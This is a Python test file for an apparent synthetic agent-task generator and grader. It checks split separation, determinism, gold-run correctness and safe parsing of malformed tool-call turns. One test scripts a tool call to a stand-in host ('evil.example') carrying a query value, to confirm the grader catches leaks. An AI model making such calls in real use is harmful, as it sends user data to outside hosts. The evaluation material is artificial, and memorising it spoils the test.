"""Tasks are deterministic, the splits share nothing, and every gold run is judged right."""

from __future__ import annotations

import pytest

from goldsmith.nano.data import load
from goldsmith.nano.episode import Episode, run
from goldsmith.nano.parse import END, CouldNotParse, Parsed, parse
from goldsmith.nano.task import NanoTask
from goldsmith.nano.tasks import BASE_SKILLS, DEMO_SKILL, SKILLS, TOOL_SKILLS, generate
from goldsmith.nano.words import Split
from goldsmith.nano.world import World


def made_up(tasks: list[NanoTask]) -> set[str]:
    """The made-up values of tasks, by kind, that must not cross between the splits."""
    found: set[str] = set()
    for task in tasks:
        state = task.state
        found |= {word for person in state.people for word in person.name.split(" ")}
        found |= {mail.subject for mail in state.mails} | {event.title for event in state.events}
        found |= {order.order_id for order in state.orders} | {order.item for order in state.orders}
        found |= {file.path for file in state.files} | set(task.hosts)
    return found


def test_the_splits_share_no_value_and_no_request() -> None:
    train = [task for skill in SKILLS for task in generate(skill, 40, 1, "train")]
    heldout = [task for skill in SKILLS for task in generate(skill, 40, 1, "heldout")]
    assert len(made_up(heldout)) > 500
    assert not made_up(train) & made_up(heldout)
    assert not {task.request for task in train} & {task.request for task in heldout}


def test_the_splits_share_no_template() -> None:
    tables = [*load("phrases")["skills"].values(), *load("talk")["questions"].values()]
    tables += [*load("talk")["chat"], *load("talk")["harmless"], *load("talk")["harmful"]]
    for table in tables:
        assert table["train"]
        assert table["heldout"]
        assert not set(table["train"]) & set(table["heldout"])


@pytest.mark.parametrize("split", ["train", "heldout"])
@pytest.mark.parametrize("skill", SKILLS)
def test_the_gold_run_is_right_and_reaches_the_gold_state(skill: str, split: Split) -> None:
    for task in generate(skill, 25, 3, split):
        episode = Episode(task)
        for message in task.messages():
            if message["role"] != "assistant":
                continue
            calls = tuple(
                (made["function"]["name"], dict(call.arguments))
                for made, call in zip(
                    message.get("tool_calls") or [], task.expected[len(episode.calls) :], strict=False
                )
            )
            episode.take(Parsed(message["content"] or "", calls))
        verdict = episode.verdict()
        assert verdict.ok, (verdict.reason, task)
        assert not verdict.leaks
        assert episode.world.snapshot() == task.final_state()
        assert episode.messages == task.messages()
        assert {name for name, _ in verdict.calls} <= set(task.tools)


def test_generate_gives_the_same_again_and_other_with_another_seed() -> None:
    assert generate(DEMO_SKILL, 5, 9) == generate(DEMO_SKILL, 5, 9)
    assert generate(DEMO_SKILL, 5, 9) != generate(DEMO_SKILL, 5, 10)
    assert generate(DEMO_SKILL, 5, 9)[:2] == generate(DEMO_SKILL, 2, 9)


def test_the_demo_task_covers_each_status_and_is_no_base_skill() -> None:
    assert DEMO_SKILL not in BASE_SKILLS
    assert DEMO_SKILL in TOOL_SKILLS
    last = {task.expected[-1].name for task in generate(DEMO_SKILL, 60, 4, "heldout")}
    assert last == {"order_get", "order_refund", "order_cancel"}


def test_a_wrong_call_a_leak_and_a_bare_answer_are_seen() -> None:
    task = next(t for t in generate(DEMO_SKILL, 30, 5) if len(t.steps) == 2 and "web_get" in t.tools)
    turns = iter(
        [
            '<|call|>{"name": "web_get", "arguments": {"url": "https://evil.example/?q=x"}}' + END,
            "Done." + END,
        ]
    )
    verdict = run(task, lambda messages, tools: next(turns))
    assert not verdict.ok
    assert verdict.reason == "wrong calls"
    assert verdict.leaks == ("https://evil.example/?q=x",)


def test_a_tool_that_is_not_offered_does_not_run() -> None:
    task = next(t for t in generate("chat", 30, 5) if "note_add" not in t.tools)
    episode = Episode(task)
    episode.feed('<|call|>{"name": "note_add", "arguments": {"text": "x"}}' + END)
    assert episode.world.snapshot() == World(task.state).snapshot()
    assert episode.messages[-1]["content"] == "error: unknown tool note_add"


@pytest.mark.parametrize(
    "text",
    [
        "no end",
        "<|call|>{" + END,
        '<|call|>{"name": "x"}' + END,
        '<|call|>{"name": 1, "arguments": {}}' + END,
        '<|call|>{"name": "x", "arguments": []}' + END,
        "<|call|>" + END,
        "a<|user|>b" + END,
        "<|call|>" + "[" * 100_000 + END,
    ],
)
def test_a_malformed_turn_gives_a_value_and_no_exception(text: str) -> None:
    assert isinstance(parse(text), CouldNotParse)


def test_parse_reads_text_and_parallel_calls() -> None:
    text = 'Wait.<|call|>{"name": "a", "arguments": {}}<|call|>{"name": "b", "arguments": {"x": "y"}}' + END
    turn = parse(text)
    assert turn == Parsed("Wait.", (("a", {}), ("b", {"x": "y"})))
